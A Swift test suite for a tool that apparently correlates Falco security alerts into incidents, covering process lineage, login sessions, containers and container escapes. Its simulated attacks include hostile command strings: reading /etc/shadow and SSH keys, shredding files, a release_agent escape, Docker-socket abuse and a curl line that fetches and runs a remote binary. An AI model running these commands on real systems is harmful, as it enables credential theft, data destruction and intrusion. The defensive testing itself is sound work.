import FalcoAlerts
import Testing

@testable import Incidents

/// Each kind of evidence by itself, and what is none.
@Suite struct LinkTests {
    private let web = World.Container(id: "aaaaaaaaaaaa", pod: "web-1")
    private let database = World.Container(id: "bbbbbbbbbbbb", image: "registry.example.com/db", pod: "db-0")

    // MARK: Lineage

    @Test(arguments: [false, true]) func aProcessAndWhatItStarts(isReversed: Bool) throws {
        var world = World()
        let script = world.start("upd --quiet", below: world.start("sh"), path: "/opt/x/upd")
        let child = world.start("cat /etc/shadow", below: script)
        let all = [
            world.alert(.plain, script, at: 0), world.alert(.secret, child, at: 5, file: "/etc/shadow"),
        ]
        #expect(try groups(isReversed ? all.reversed() : all) == [1, 1])
    }

    @Test func theSameProcess() throws {
        var world = World()
        let process = world.start("upd --quiet", path: "/opt/x/upd")
        #expect(
            try groups([
                world.alert(.secret, process, at: 0, file: "/etc/shadow"),
                world.alert(.logs, process, at: 4000, file: "/var/log/auth.log"),
            ]) == [1, 1])
    }

    @Test func aNumberThatWasGivenToAnotherProcess() throws {
        var world = World()
        let first = world.start("upd --quiet", below: world.start("one"), path: "/opt/x/upd", pid: 4242)
        let second = world.start("cleaner -x", below: world.start("two"), path: "/opt/y/cleaner", pid: 4242)
        #expect(
            try groups([
                world.alert(.secret, first, at: 0, file: "/etc/shadow"),
                world.alert(.secret, second, at: 60, file: "/etc/gshadow"),
            ]) == [1, 2])
    }

    @Test func whatOneShellStarts() throws {
        var world = World()
        let shell = world.start("sh -c a;b", below: world.start("upd"))
        #expect(
            try groups([
                world.alert(
                    .secret, world.start("cat /etc/shadow", below: shell), at: 0, file: "/etc/shadow"),
                world.alert(.plain, world.start("id", below: shell), at: 900),
            ]) == [1, 1])
    }

    @Test func whatSystemdOrCronStartsHasNothingInCommon() throws {
        for starter in ["systemd", "cron", "sshd", "containerd-shim", "runc"] {
            var world = World()
            let parent = world.start(starter, leads: true)
            #expect(
                try groups([
                    world.alert(.secret, world.start("one", below: parent), at: 0, file: "/etc/shadow"),
                    world.alert(.logs, world.start("two", below: parent), at: 1, file: "/var/log/syslog"),
                ]) == [1, 2], "\(starter)")
        }
    }

    @Test func aServiceOfAContainerNeedsMoreThanItsNumber() throws {
        var world = World()
        let service = world.run("httpd", in: web)
        let worker = world.start("httpd", below: service)
        let attack = world.start("sh -c id", below: worker)
        // Suspicious, in the same container, below the same worker: one story.
        #expect(
            try groups([
                world.alert(.shell, attack, at: 0),
                world.alert(
                    .secret, world.start("cat /etc/shadow", below: worker), at: 8, file: "/etc/shadow"),
            ]) == [1, 1])
        // On the host, a daemon's children are on their own.
        let daemon = world.start("agentd", path: "/usr/sbin/agentd", leads: true)
        #expect(
            try groups([
                world.alert(.plain, world.start("one", below: daemon), at: 0),
                world.alert(.plain, world.start("two", below: daemon), at: 1),
            ]) == [1, 2])
    }

    /// Whose name is its parent's is not for that a service's worker, nor what was brought in the service.
    @Test(arguments: [true, false]) func whoForksUnderOneNameIsNoService(isReversed: Bool) throws {
        var world = World()
        let service = world.run("httpd", in: web)
        let first = world.start("k", below: world.start("sh -c ./k", below: service), path: "/tmp/k")
        let fork = world.start("k", below: first, path: "/tmp/k")
        func pair(_ process: World.Process, _ rule: World.Rule) -> [AlertValues] {
            let child = world.start("id", below: process)
            return isReversed
                ? [world.alert(.plain, child, at: 0), world.alert(rule, process, at: 5000)]
                : [world.alert(rule, process, at: 0), world.alert(.plain, child, at: 5000)]
        }
        #expect(try groups(pair(fork, .plain)) == [1, 1])
        #expect(try groups(pair(fork, .dropped)) == [1, 1])
        let runtime = world.start("runc", leads: true)
        let brought = world.start("k", below: runtime, path: "/tmp/k", leads: true, in: web)
        let worker = world.start("k", below: brought, path: "/tmp/k")
        #expect(try groups(pair(brought, .dropped)) == [1, 1])
        #expect(try groups(pair(worker, .dropped)) == [1, 1])
    }

    /// A service stays one when it does something suspicious itself.
    @Test(arguments: [(1, "by the service of"), (77, "by the process of")])
    func aServiceIsKnownByItsSession(session: Int, words: String) throws {
        var world = World()
        let shim = world.start("containerd-shim", leads: true)
        let first = world.start("httpd", below: shim, session: session, in: web)
        var watch = Watch()
        try watch.see([
            world.alert(.dropped, first, at: 0),
            world.alert(.secret, world.start("cat x", below: first), at: 5, file: "/etc/shadow"),
        ])
        let reasons = watch.incidents().flatMap(\.timeline).flatMap(\.reasons).map(\.text.raw)
        #expect(reasons.contains { $0.contains(words) }, "\(reasons)")
    }

    /// One process of a language's runtime serves many: its command line ties them as little as its number would.
    @Test func whatAnInterpretedServiceStartsHasLittleInCommon() throws {
        var world = World(numbers: false)
        let service = world.run("node server.js", in: web)
        let line = ["proc.pcmdline": service.line]
        #expect(
            try groups([
                world.alert(.plain, world.start("one x", below: service), at: 0, fields: line),
                world.alert(.plain, world.start("two y", below: service), at: 5000, fields: line),
            ]) == [1, 2])
    }

    // MARK: Sessions

    @Test(arguments: [true, false]) func oneLoginIsOneStoryAlsoAsRoot(numbers: Bool) throws {
        var world = World(numbers: numbers)
        let shell = world.login(1002, terminal: 34818)
        let root = world.start("bash", below: world.start("sudo -i", below: shell, uid: 0))
        #expect(
            try groups([
                world.alert(.plain, world.start("id", below: shell), at: 0),
                world.alert(
                    .secret, world.start("cat /etc/shadow", below: root), at: 40, file: "/etc/shadow"),
                world.alert(.logs, world.start("tee /var/log/x", below: root), at: 300, file: "/var/log/x"),
            ]) == [1, 1, 1])
    }

    @Test(arguments: [true, false]) func anotherLoginOnTheSameTerminalIsAnotherStory(numbers: Bool) throws {
        var world = World(numbers: numbers)
        let (bob, alice) = (world.login(1002, terminal: 34816), world.login(1001, terminal: 34816))
        #expect(
            try groups([
                world.alert(.secret, world.start("cat /etc/shadow", below: bob), at: 0, file: "/etc/shadow"),
                world.alert(
                    .secret, world.start("cat /etc/sudoers", below: alice), at: 20, file: "/etc/sudoers"),
            ]) == [1, 2])
    }

    @Test(arguments: [true, false]) func theSameUserOnTwoTerminalsIsTwoStories(numbers: Bool) throws {
        var world = World(numbers: numbers)
        let (one, two) = (world.login(1002, terminal: 34816), world.login(1002, terminal: 34817))
        #expect(
            try groups([
                world.alert(.secret, world.start("cat /etc/shadow", below: one), at: 0, file: "/etc/shadow"),
                world.alert(.logs, world.start("tee /var/log/x", below: two), at: 10, file: "/var/log/x"),
            ]) == [1, 2])
    }

    @Test func aDaemonsSessionWeighsAsMuchAsFewAreInIt() throws {
        var world = World()
        let cron = world.start("cron -f", leads: true)
        // Many jobs share the scheduler's session: none of them says anything about another.
        var all: [AlertValues] = []
        for job in 0..<12 {
            let shell = world.start("sh -c job\(Character(Unicode.Scalar(97 + UInt8(job))))", below: cron)
            let name = "job" + String(Character(Unicode.Scalar(97 + UInt8(job))))
            all.append(world.alert(.plain, world.start(name, below: shell), at: Double(job * 7)))
        }
        #expect(Set(try groups(all)).count == 12)
        // The session of a daemon that nothing else is known of ties what hangs together in time and kind.
        let daemon = world.start("atd", leads: true)
        let (first, second) = (world.start("sh", below: daemon), world.start("bash", below: daemon))
        #expect(
            try groups([
                world.alert(.logs, world.start("true", below: first), at: 0, file: "/var/log/auth.log"),
                world.alert(.logs, world.start("true", below: first), at: 2, file: "/var/log/syslog"),
                world.alert(.keys, world.start("grep -r KEY /root", below: second), at: 4),
            ]) == [1, 1, 1])
    }

    // MARK: Names

    @Test func withoutNumbersTheNamesAboveTie() throws {
        var world = World(numbers: false)
        let dropper = world.start("kworkerd -d", path: "/opt/.k/kworkerd")
        let shell = world.start("sh -c x", below: dropper)
        #expect(
            try groups([
                world.alert(.logs, dropper, at: 0, file: "/var/log/syslog"),
                world.alert(.logs, shell, at: 2, file: "/var/log/auth.log"),
                world.alert(.keys, world.start("grep -r KEY /root", below: dropper), at: 3),
            ]) == [1, 1, 1])
    }

    @Test func aShellsNameTiesNothing() throws {
        var world = World(numbers: false)
        let (one, two) = (world.start("bash", leads: true), world.start("bash", leads: true))
        #expect(
            try groups([
                world.alert(.plain, world.start("one", below: one), at: 0),
                world.alert(.plain, world.start("two", below: two), at: 1),
            ]) == [1, 2])
    }

    @Test func theParentsCommandLineTies() throws {
        var world = World(numbers: false)
        let script = world.start("bash /tmp/x/run.sh --all", below: world.start("upd"))
        let child = world.start("cat /etc/shadow", below: script)
        #expect(
            try groups([
                world.alert(.secret, script, at: 0, file: "/etc/sudoers"),
                world.alert(
                    .secret, child, at: 3, file: "/etc/shadow", fields: ["proc.pcmdline": script.line]),
            ]) == [1, 1])
    }

    @Test func aLoopIsOneStoryAndNoRoutine() throws {
        var world = World(numbers: false)
        let script = world.start("wiper -r", path: "/opt/x/wiper")
        // Each time the same, but for a number.
        func files(from start: Double, every period: Double) -> [AlertValues] {
            (0..<40).map { step in
                world.alert(
                    .logs, world.start("shred -u /srv/doc\(step)", below: script),
                    at: start + Double(step) * period, file: "/srv/doc\(step)")
            }
        }
        // Somebody empties a directory, at the beat of a machine.
        #expect(try groups(files(from: 0, every: 1)) == Array(repeating: 1, count: 40))
        let before = world.alert(.plain, world.start("x", below: world.start("y")), at: 0)
        #expect(try groups([before] + files(from: 4000, every: 1)) == [1] + Array(repeating: 2, count: 40))
        // A job that has done so since the beginning is one.
        #expect(try groups(files(from: 0, every: 100)) == Array(repeating: 0, count: 40))
    }

    /// A program that has a shell run each step: no alert tells what is above that shell.
    @Test(arguments: [true, false]) func aLoopsStepsAreProcessesOfTheirOwn(isOneSession: Bool) throws {
        var world = World()
        let service = world.start("java", leads: true)
        // What else the service does: its session alone says little.
        let habits = (0..<20).map { index in
            world.alert(
                .shell, world.start("sh -c df", below: service), at: Double(index) * 600)
        }
        let steps = (0..<12).map { index in
            let shell = world.start("sh", session: isOneSession ? service.session : 50_000 + index)
            return world.alert(
                .logs, world.start("shred -u /srv/doc\(index)", below: shell), at: 12_000 + Double(index) * 2,
                file: "/srv/doc\(index)", fields: ["proc.aname[2]": ""])
        }
        let stories = try groups(habits + steps).suffix(12)
        #expect(Set(stories).count == (isOneSession ? 1 : 12), "\(stories)")
    }

    @Test func whatAPersonTypesIsNoRoutine() throws {
        var world = World()
        let shell = world.login(1002, terminal: 34819)
        let typed = (0..<12).map { step in
            world.alert(
                .secret, world.start("cat /home/u\(step)/key", below: shell), at: Double(step) * 10,
                file: "/home/u\(step)/key")
        }
        #expect(try groups(typed) == Array(repeating: 1, count: 12))
    }

    /// A service calls and is made to call: what it starts for one is nothing that another did.
    @Test func aServicesOwnCallsAreNotTheAttack() throws {
        var world = World()
        let service = world.run("controller --leader-elect", in: web)
        #expect(
            try groups([
                world.alert(.plain, service, at: 0, peer: "10.0.0.1:443"),
                world.alert(.plain, service, at: 130, peer: "10.0.0.1:443"),
                world.alert(
                    .secret, world.start("sh -c cat /etc/shadow", below: service), at: 9000,
                    file: "/etc/shadow"),
            ])[2] == 2)
        // What one process of it does again and again is routine also when it is always the same process.
        let calls = [0, 130, 210, 390, 460, 600, 790, 850, 990, 1100].map {
            world.alert(.plain, service, at: $0, peer: "10.0.0.1:443")
        }
        let shell = world.start("sh -c id", below: service)
        let attack = [
            world.alert(.secret, shell, at: 1120, file: "/etc/shadow"), world.alert(.keys, shell, at: 1125),
        ]
        #expect(try groups(calls + attack) == Array(repeating: 0, count: 10) + [1, 1])
    }

    /// The main process stands above whatever it was made to start, and does its work meanwhile.
    @Test func theServiceAboveAnAttackIsNoPartOfIt() throws {
        var world = World()
        let service = world.run("java -jar app.jar", in: web)
        func call(_ time: Double) -> AlertValues {
            world.alert(.plain, service, at: time, peer: "10.96.0.1:443")
        }
        let shell = world.start("sh -c id", below: service)
        let before = [0, 1300, 1500, 3100].map(call)
        let attack = [
            world.alert(.shell, shell, at: 4000),
            world.alert(.secret, world.start("cat /etc/shadow", below: shell), at: 4005, file: "/etc/shadow"),
            world.alert(.keys, world.start("find / -name id_rsa", below: shell), at: 4010),
            world.alert(.dropped, world.start("k", below: shell, path: "/tmp/.k/k"), at: 4030),
        ]
        let after = [4040, 4100, 5600, 5700, 8000, 8010].map(call)
        let found = try groups(before + attack + after)
        let story = try #require(found.dropFirst(4).first)
        #expect(found[4..<8].allSatisfy { $0 == story && $0 != 0 }, "\(found)")
        #expect((found[..<4] + found[8...]).allSatisfy { $0 != story }, "\(found)")
    }

    /// What looks like an attack and keeps coming from the service itself is the service's way.
    @Test func whatAServiceKeepsDoingDoesNotTakeInAnAttack() throws {
        var world = World()
        let service = world.run("gunicorn app:app", in: web)
        let environment = World.Rule(
            name: "Read environment variable from /proc files", priority: .warning, call: "openat",
            tags: ["container", "host", "mitre_discovery", "T1083"])
        func read(_ time: Double) -> AlertValues {
            world.alert(
                environment, world.start("gunicorn app:app", below: service), at: time,
                file: "/proc/self/environ")
        }
        let before = [0, 310, 1700, 1950].map(read)
        let shell = world.start("sh -c x", below: world.start("gunicorn app:app", below: service))
        let attack = [
            world.alert(
                environment, world.start("cat /proc/self/environ", below: shell), at: 2100,
                file: "/proc/self/environ"),
            world.alert(.keys, world.start("find / -name id_rsa", below: shell), at: 2120),
            world.alert(.dropped, world.start("k", below: shell, path: "/tmp/.k/k"), at: 2150),
        ]
        let after = [2160, 2500, 4000].map(read)
        let found = try groups(before + attack + after)
        let story = found[4]
        #expect(found[4..<7].allSatisfy { $0 == story && $0 != 0 }, "\(found)")
        #expect((found[..<4] + found[7...]).allSatisfy { $0 != story }, "\(found)")
    }

    /// Also when it is known to be routine, and the process is the very same.
    @Test func theRoutineOfAServiceStaysOutOfItsOwnStory() throws {
        var world = World()
        let service = world.run("java -jar app.jar", in: web)
        let usual = (0..<12).map {
            world.alert(.plain, service, at: Double($0) * 60, peer: "10.96.0.1:443")
        }
        let attack = [
            world.alert(.dropped, service, at: 721), world.alert(.miner, service, at: 722),
            world.alert(.secret, service, at: 723, file: "/etc/shadow"),
        ]
        let later = (13..<16).map {
            world.alert(.plain, service, at: Double($0) * 60, peer: "10.96.0.1:443")
        }
        let found = try groups(usual + attack + later)
        #expect(found == Array(repeating: 0, count: 12) + [1, 1, 1, 0, 0, 0], "\(found)")
    }

    // MARK: Files

    @Test func whatOneDropsAnotherRuns() throws {
        var world = World()
        let writer = world.start("cp x", below: world.start("one"))
        let runner = world.start("upd", below: world.start("two"), path: "/opt/.cache/upd")
        #expect(
            try groups([
                world.alert(.below, writer, at: 0, file: "/opt/.cache/upd"),
                world.alert(.plain, runner, at: 3000),
            ]) == [1, 1])
    }

    @Test func aFileWaitsUntilItIsRun() throws {
        var world = World()
        let shell = world.start("sh -c x", below: world.start("one"))
        // Nine steps, four seconds apart: a pace that an hour's pause would break.
        var all = "abcdefghi".enumerated().map { step, name in
            world.alert(
                step % 2 == 0 ? .keys : .secret, world.start("\(name)\(name) -x", below: shell),
                at: Double(step) * 4, file: "/srv/\(name)")
        }
        all.append(world.alert(.below, world.start("cp x", below: shell), at: 36, file: "/opt/.cache/upd"))
        let runner = world.start("upd", below: world.start("two"), path: "/opt/.cache/upd")
        all.append(world.alert(.secret, runner, at: 20_000, file: "/etc/shadow"))
        // The same without the file is another story.
        let other = world.start("other", below: world.start("three"), path: "/opt/.cache/other")
        all.append(world.alert(.secret, other, at: 20_001, file: "/etc/gshadow"))
        let found = try groups(all)
        #expect(found == Array(repeating: 1, count: 11) + [2], "\(found)")
    }

    @Test func whatEverybodyReadsTiesNobody() throws {
        var world = World()
        #expect(
            try groups([
                world.alert(.secret, world.start("one", below: world.start("a")), at: 0, file: "/etc/shadow"),
                world.alert(.secret, world.start("two", below: world.start("b")), at: 1, file: "/etc/shadow"),
            ]) == [1, 2])
    }

    // MARK: Places

    /// Each request is a process of its own, with a shell of its own.
    @Test func requestsToOneServiceAreOneStory() throws {
        var world = World()
        let service = world.run("php-fpm", in: web)
        func request(_ line: String, path: String? = nil) -> World.Process {
            let shell = world.start("sh -c \(line)", below: world.start("php-fpm", below: service))
            return world.start(line, below: shell, path: path)
        }
        #expect(
            try groups([
                world.alert(.secret, request("cat /etc/shadow"), at: 0, file: "/etc/shadow"),
                world.alert(.keys, request("find / -name id_rsa"), at: 45),
                world.alert(.dropped, request("w", path: "/tmp/w"), at: 170),
            ]) == [1, 1, 1])
    }

    /// A bot that asks through a web shell: without numbers, at a pace that a single request does not tell.
    @Test func theShellsOfOneServiceAreOneStory() throws {
        var world = World(numbers: false)
        let service = world.run("php-fpm", in: web)
        let other = world.start("backupd", below: world.start("runit", below: service))
        func shells(below parent: World.Process, _ lines: String...) -> [AlertValues] {
            lines.enumerated().map { index, line in
                world.alert(
                    .shell, world.start("sh -c \(line)", below: parent), at: Double(index * index) * 12)
            }
        }
        let worker = world.start("php-fpm", below: service)
        let asked = shells(below: worker, "id", "uname -a", "ls -la /var/www", "cat /etc/passwd", "ps aux")
        #expect(try groups(asked) == [1, 1, 1, 1, 1])
        // That of another program of the container may be another matter.
        var late = shells(below: other, "id")
        late[0].seconds += 12
        #expect(try groups([asked[0]] + late) == [1, 2])
    }

    /// What one step raises at once does not say when the next one may come.
    @Test func theAlertsOfOneStepMakeNoPace() throws {
        var world = World(numbers: false)
        let service = world.run("postgres", in: database)
        func step(_ line: String, _ rule: World.Rule, at second: Double) -> [AlertValues] {
            let shell = world.start("sh -c \(line)", below: world.start("postgres", below: service))
            let tool = world.start(line, below: shell)
            return [
                world.alert(.shell, shell, at: second),
                world.alert(rule, tool, at: second + 0.002, file: "/etc/shadow"),
                world.alert(.keys, tool, at: second + 0.004),
            ]
        }
        let first = step("cat /etc/shadow", .secret, at: 0)
        let download = "curl -s -o /var/tmp/x http://203.0.113.5/x; chmod +x /var/tmp/x; /var/tmp/x"
        #expect(try groups(first + step(download, .secret, at: 490)) == [1, 1, 1, 1, 1, 1])
        // Nearly a day later it is another story at any pace.
        #expect(try groups(first + step(download, .secret, at: 86_000)) == [1, 1, 1, 2, 2, 2])
        // Steps that came every few seconds do say so.
        let quick = (1...8).flatMap { step("cat /etc/f\(Self.letter($0))", .secret, at: Double($0) * 4) }
        #expect(Set(try groups(first + quick + step(download, .secret, at: 9000))).count == 2)
    }

    private static func letter(_ index: Int) -> Character { Character(UnicodeScalar(96 + UInt8(index))) }

    /// Who enters the container is not the service: the session is another one.
    @Test func whoEntersAContainerIsNotItsService() throws {
        var world = World()
        let service = world.run("php-fpm", in: web)
        let entered = world.start("sh -c y", below: world.start("runc", leads: true), leads: true, in: web)
        let shell = world.start("sh -c x", below: world.start("php-fpm", below: service))
        #expect(
            try groups([
                world.alert(.secret, world.start("cat a", below: shell), at: 0, file: "/etc/shadow"),
                world.alert(.keys, world.start("find / -name id_rsa", below: entered), at: 45),
            ]) == [1, 2])
    }

    @Test func aContainerTiesWhatLooksLikeAnAttackAndNothingElse() throws {
        var world = World(numbers: false)
        let service = world.run("httpd", in: web)
        let perl = world.start("perl -e x", below: service)
        let all = [
            world.alert(.shell, world.start("sh -c id", below: service), at: 0),
            world.alert(.secret, perl, at: 5, file: "/etc/shadow"),
            // Nothing about it is suspicious, and nothing but the place ties it.
            world.alert(.plain, world.start("healthz", below: world.start("probe", below: service)), at: 9),
        ]
        #expect(try groups(all) == [1, 1, 2])
    }

    @Test func containersAreNotMixed() throws {
        var world = World()
        let (one, two) = (world.run("httpd", in: web), world.run("postgres", in: database))
        #expect(
            try groups([
                world.alert(.dropped, world.start("k", below: one, path: "/tmp/k"), at: 0),
                world.alert(.dropped, world.start("k", below: two, path: "/tmp/k"), at: 1),
            ]) == [1, 2])
    }

    @Test func aPersonsShellInTheContainerIsAnotherStory() throws {
        var world = World(numbers: false)
        let service = world.run("httpd", in: web)
        let runtime = world.start("runc", leads: true)
        let admin = world.start("bash", below: runtime, uid: 0, terminal: 34817, leads: true, in: web)
        #expect(
            try groups([
                world.alert(.plain, world.start("id", below: admin), at: 0),
                world.alert(.plain, world.start("uname -r", below: admin), at: 8),
                world.alert(.shell, world.start("sh -c id", below: service), at: 30),
                world.alert(
                    .secret, world.start("cat /etc/shadow", below: service), at: 33, file: "/etc/shadow"),
            ]) == [1, 1, 2, 2])
    }

    @Test func twoAttacksOnOneContainerFarApartAreTwoStories() throws {
        var world = World(numbers: false)
        let service = world.run("httpd", in: web)
        func attack(_ start: Double, _ shell: String, _ tool: String) -> [AlertValues] {
            var world = world
            let first = world.start("\(shell) -c \(tool)", below: service)
            return [
                world.alert(.shell, first, at: start),
                world.alert(
                    .secret, world.start("cat /etc/\(tool)", below: first), at: start + 2,
                    file: "/etc/shadow-\(tool)"),
                world.alert(.keys, world.start("grep -r \(tool) /srv", below: first), at: start + 5),
                world.alert(
                    .logs, world.start("\(tool) log", below: first), at: start + 9, file: "/var/log/\(tool)"),
                world.alert(.dropped, world.start(tool, below: first, path: "/tmp/\(tool)"), at: start + 12),
            ]
        }
        let result = try groups(attack(0, "sh", "alpha") + attack(40_000, "python3", "beta"))
        #expect(result == [1, 1, 1, 1, 1, 2, 2, 2, 2, 2])
    }

    // MARK: Crossing

    private func escape(_ world: inout World, at start: Double) -> [AlertValues] {
        let runtime = world.start("runc", leads: true)
        let shell = world.start("bash", below: runtime, uid: 0, terminal: 34816, leads: true, in: web)
        return [
            world.alert(
                .secret, world.start("cat /host/x", below: shell), at: start, file: "/host/root/.ssh/id_rsa"),
            world.alert(
                .escape, world.start("sh -c echo x > /tmp/release_agent", below: shell), at: start + 3,
                file: "/tmp/release_agent"),
        ]
    }

    @Test(arguments: [true, false]) func rootOnTheHostRightAfterAnEscape(numbers: Bool) throws {
        var world = World(numbers: numbers)
        let inside = escape(&world, at: 0)
        let outside = world.start("cat /etc/shadow", uid: 0, leads: true)
        #expect(
            try groups(inside + [world.alert(.secret, outside, at: 6, file: "/etc/shadow")]) == [1, 1, 1])
    }

    @Test func theKernelsHelpersStartOutOfNothingToo() throws {
        var world = World()
        let inside = escape(&world, at: 0)
        let outside = world.start("sh /cmd", below: world.start("kworker", leads: true), uid: 0)
        #expect(
            try groups(
                inside + [
                    world.alert(
                        .secret, outside, at: 6, file: "/etc/shadow", fields: ["proc.pname": "kworker/u8:1"])
                ]) == [1, 1, 1])
    }

    @Test(arguments: [(900.0, 1), (9000, 0)])
    func rootOnTheHostLongAfterAnEscapeIsLinked(start: Double, links: Int) throws {
        var world = World()
        var watch = Watch()
        let late = world.start("cat /etc/shadow", uid: 0, leads: true)
        let shell = world.start("sh -c x", below: world.run("httpd", in: web, uid: 0))
        let tool = world.start("k", below: shell, path: "/tmp/.k/k")
        try watch.see([
            world.alert(.dropped, tool, at: 0), world.alert(.miner, tool, at: 1),
            world.alert(
                .escape, world.start("sh -c y", below: shell), at: 3, file: "/tmp/release_agent"),
        ])
        try watch.see(
            [
                world.alert(.secret, late, at: start, file: "/etc/shadow"),
                world.alert(.keys, world.start("find / -name id_rsa", below: late), at: start + 2),
                world.alert(.logs, world.start("rm x", below: late), at: start + 4, file: "/var/log/x"),
                world.alert(.miner, world.start("k", below: late, path: "/tmp/.k/k"), at: start + 6),
            ])
        #expect(watch.groups == [1, 1, 1, 2, 2, 2, 2])
        let incidents = watch.incidents()
        #expect(incidents.map(\.severity.needsAttention) == [true, true])
        #expect(incidents.map { $0.related.count } == [links, links])
        let reasons = incidents.flatMap(\.related).map(\.reason.raw)
        let common = "They have an escape from a container and root on its host after it in common."
        #expect(reasons.allSatisfy { $0 == common })
        let told = incidents.flatMap(\.timeline).flatMap(\.reasons).map(\.text.raw)
        #expect(told.allSatisfy { !$0.contains("right after") })
    }

    @Test func aDaemonsChildOrAPersonAfterAnEscapeIsNoCrossing() throws {
        var world = World()
        let inside = escape(&world, at: 0)
        let daemon = world.start("agentd", path: "/usr/sbin/agentd", leads: true)
        let person = world.login(1002, terminal: 34819)
        let late = world.start("cat /etc/shadow", uid: 0, leads: true)
        #expect(
            try groups(
                inside + [
                    world.alert(.secret, world.start("one", below: daemon), at: 5, file: "/etc/shadow"),
                    world.alert(.secret, world.start("two", below: person), at: 6, file: "/etc/shadow"),
                    world.alert(.secret, late, at: 600, file: "/etc/shadow"),
                ]) == [1, 1, 2, 3, 4])
    }

    // MARK: The container runtime

    private static let privileged = World.Rule(
        name: "Launch Privileged Container", priority: .informational, call: "execve",
        tags: ["container", "cis", "mitre_execution", "T1610"])

    /// A container that asks the runtime for another one, which then starts.
    private func throughTheSocket(
        _ world: inout World, socket: String = "/var/run/docker.sock", after seconds: Double,
        on other: String? = nil, rule: World.Rule = LinkTests.privileged
    ) -> [AlertValues] {
        let shell = world.start("sh -c x", below: world.run("httpd", in: web))
        let line = "curl -XPOST --unix-socket \(socket) http://x/containers/create"
        let ask = world.alert(.plain, world.start(line, below: shell), at: 0)
        if let other { world.host = other }
        let given = World.Container(id: "cccccccccccc", image: "docker.io/library/alpine")
        let main = world.run("sh", in: given, uid: 0)
        // Below a shell that nothing is heard of.
        let deep = world.start(
            "sh", below: world.start("chroot /host sh", below: world.start("y")), in: given)
        return [
            ask, world.alert(rule, main, at: seconds, fields: ["container.privileged": "true"]),
            world.alert(.plain, deep, at: seconds + 30, file: "/host/etc/cron.d/x"),
            world.alert(
                .secret, world.start("cat /etc/shadow", below: deep), at: seconds + 34,
                file: "/host/etc/shadow"),
        ]
    }

    @Test(
        arguments: [true, false], ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/m/crio.sock"])
    func aContainerThatAnotherHadStarted(numbers: Bool, socket: String) throws {
        var world = World(numbers: numbers)
        var watch = Watch()
        try watch.see(throughTheSocket(&world, socket: socket, after: 15))
        #expect(watch.groups == [1, 1, 1, 1])
        let incident = try #require(watch.incidents().first)
        #expect(incident.severity.reasons.contains { $0.raw.contains("runtime's socket") })
        #expect(
            incident.timeline.dropFirst().first?.reasons.first?.text.raw.contains("runtime's socket") == true)
        #expect(incident.confidence.reasons.contains { $0.raw.contains("order and the time") })
    }

    @Test func whoStartsAContainerThroughTheRuntimeHasTheHost() throws {
        var (near, far) = (World(), World())
        func points(_ all: [AlertValues]) throws -> Int {
            var watch = Watch()
            try watch.see(all)
            return watch.incidents().map(\.severity.points).max() ?? 0
        }
        let joined = try points(throughTheSocket(&near, after: 15))
        let apart = try points(throughTheSocket(&far, after: 3600))
        #expect(joined >= apart + SeverityScore.runtimeBonus, "\(joined), \(apart)")
    }

    /// Alerts of one moment are told in whichever order.
    @Test func theContainerMayBeToldBeforeWhatStartedIt() throws {
        for seconds in [2.0, -2] {
            var world = World()
            var watch = Watch()
            let all = throughTheSocket(&world, after: seconds)
            try watch.see([all[1], all[0], all[3]])
            #expect(watch.groups == [1, 1, 1], "\(seconds)")
            #expect(
                watch.incidents().contains {
                    $0.severity.reasons.contains { $0.raw.contains("runtime's socket") }
                })
        }
        var world = World()
        #expect(try groups(throughTheSocket(&world, after: -60)).prefix(2) == [1, 2])
    }

    /// Tools that show or scrape the runtime name its socket when they start.
    @Test func aContainerThatNamesTheSocketDidNotStartItself() throws {
        var world = World()
        let tool = world.run("curl --unix-socket /var/run/docker.sock http://x/info", in: web)
        var watch = Watch()
        try watch.see([
            world.alert(LinkTests.privileged, tool, at: 0, fields: ["container.privileged": "true"]),
            world.alert(.secret, tool, at: 1, file: "/etc/shadow"),
            world.alert(
                LinkTests.privileged, tool, at: 2, file: "/x", fields: ["container.privileged": "true"]),
        ])
        let reasons = watch.incidents().flatMap(\.timeline).flatMap(\.reasons).map(\.text.raw)
        #expect(!reasons.contains { $0.contains("runtime's socket") }, "\(reasons)")
    }

    @Test func aContainerThatStartsOtherwiseIsNoCrossing() throws {
        var (late, elsewhere, other, harmless) = (World(), World(), World(), World())
        #expect(try groups(throughTheSocket(&late, after: 600)).prefix(2) == [1, 2])
        #expect(try groups(throughTheSocket(&elsewhere, after: 15, on: "worker-02")).prefix(2) == [1, 2])
        #expect(
            try groups(throughTheSocket(&other, socket: "/srv/mydocker.sock", after: 15)).prefix(2) == [1, 2])
        #expect(try groups(throughTheSocket(&harmless, after: 15, rule: .plain)).prefix(2) == [1, 2])
    }

    // MARK: Weak evidence

    @Test func hostUserAndPeerTieNothingTogether() throws {
        var world = World()
        let (one, two) = (world.start("a", uid: 33), world.start("b", uid: 33))
        var watch = Watch()
        try watch.see([
            world.alert(.secret, world.start("c x", below: one), at: 0, peer: "203.0.113.66:4444"),
            world.alert(.secret, world.start("d y", below: two), at: 1, peer: "203.0.113.66:4444"),
        ])
        #expect(watch.groups == [1, 2])
    }

    @Test func relatedIncidentsAreLinkedNotMerged() throws {
        var world = World()
        let pods = [
            World.Container(id: "aaaaaaaaaaaa", pod: "web-1"),
            World.Container(id: "cccccccccccc", pod: "web-2"),
        ]
        var watch = Watch()
        for (index, pod) in pods.enumerated() {
            let service = world.run("httpd", in: pod)
            let shell = world.start("sh -c x", below: service)
            let start = Double(index * 4)
            try watch.see([
                world.alert(.shell, shell, at: start, peer: "203.0.113.66:4444"),
                world.alert(
                    .secret, world.start("cat /etc/shadow", below: shell), at: start + 1, file: "/etc/shadow"),
                world.alert(.keys, world.start("grep -r KEY /srv", below: shell), at: start + 1.5),
                world.alert(
                    .dropped, world.start("k", below: shell, path: "/tmp/.k/k"), at: start + 2,
                    peer: "203.0.113.66:4444"),
            ])
        }
        #expect(watch.groups == [1, 1, 1, 1, 2, 2, 2, 2])
        let incidents = watch.incidents().filter(\.severity.needsAttention)
        #expect(incidents.count == 2)
        for incident in incidents {
            #expect(incident.related.map(\.id) == incidents.filter { $0.id != incident.id }.map(\.id))
            #expect(incident.related.first?.reason.raw.contains("203.0.113.66") == true)
        }
    }

    @Test func auditLogsAreTiedByWhoAndFromWhere() throws {
        func event(_ rule: String, _ user: String, _ address: String, at seconds: Double) -> AlertValues {
            var values = AlertValues(
                priority: .warning, rule: rule,
                fields: [("ct.user", user), ("ct.srcip", address), ("ct.name", rule)], hostname: "worker-01",
                tags: ["mitre_persistence"], source: "aws_cloudtrail")
            values.seconds = 1_795_000_000 + seconds
            return values
        }
        let result = try groups([
